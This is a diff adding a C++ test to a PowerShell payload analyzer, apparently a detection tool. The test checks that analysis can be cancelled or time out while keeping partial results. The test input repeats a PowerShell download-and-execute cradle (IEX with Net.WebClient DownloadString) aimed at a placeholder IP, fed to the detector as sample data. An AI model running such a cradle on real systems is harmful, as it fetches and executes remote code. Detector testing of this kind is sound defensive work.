@@ -14,6 +14,7 @@
 #endif
 
 #include <algorithm>
+#include <atomic>
 #include <chrono>
 #include <set>
 #include <string>
@@ -1283,4 +1284,35 @@ TEST_CASE("fast paths give what the general rules give") {
     CHECK_KIND(r2, security_tool_tamper);
     CHECK_KIND(r2, file_write);
     CHECK(r2.chain.size() >= 4);
+}
+
+TEST_CASE("a stop_signal ends an analysis early, keeping what it found, marked interrupted") {
+    std::string script;
+    for (std::size_t i = 0; script.size() < (std::size_t{2} << 20); ++i) {
+        script += "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a" + std::to_string(i) +
+                  "'); $b = [Convert]::FromBase64String('SQBFAFgA'); ";
+    }
+    std::atomic<bool> cancel{true};
+    wmisub::stop_signal raised;
+    raised.cancel = &cancel;
+    const payload_analysis none = wmisub::analyze_powershell(script, {}, raised);
+    CHECK(none.interrupted);
+    CHECK(none.truncated);
+    CHECK(none.indicators.empty());
+
+    const payload_analysis whole = wmisub::analyze_powershell(script, {}, wmisub::stop_signal{});
+    CHECK_FALSE(whole.interrupted);
+    CHECK(whole.has(indicator_kind::download_cradle));
+    // Deadlines from 100 us doubling, until one passes inside the analysis.
+    bool stopped_inside = false;
+    for (auto budget = std::chrono::microseconds(100); budget < std::chrono::seconds(120) && !stopped_inside; budget *= 2) {
+        wmisub::stop_signal late;
+        late.deadline = std::chrono::steady_clock::now() + budget;
+        const payload_analysis part = wmisub::analyze_powershell(script, {}, late);
+        if (!part.interrupted) break;  // the whole analysis fit in the budget
+        CHECK(part.truncated);
+        stopped_inside = !part.indicators.empty();
+        CHECK(part.indicators.size() <= whole.indicators.size());
+    }
+    CHECK(stopped_inside);
 }
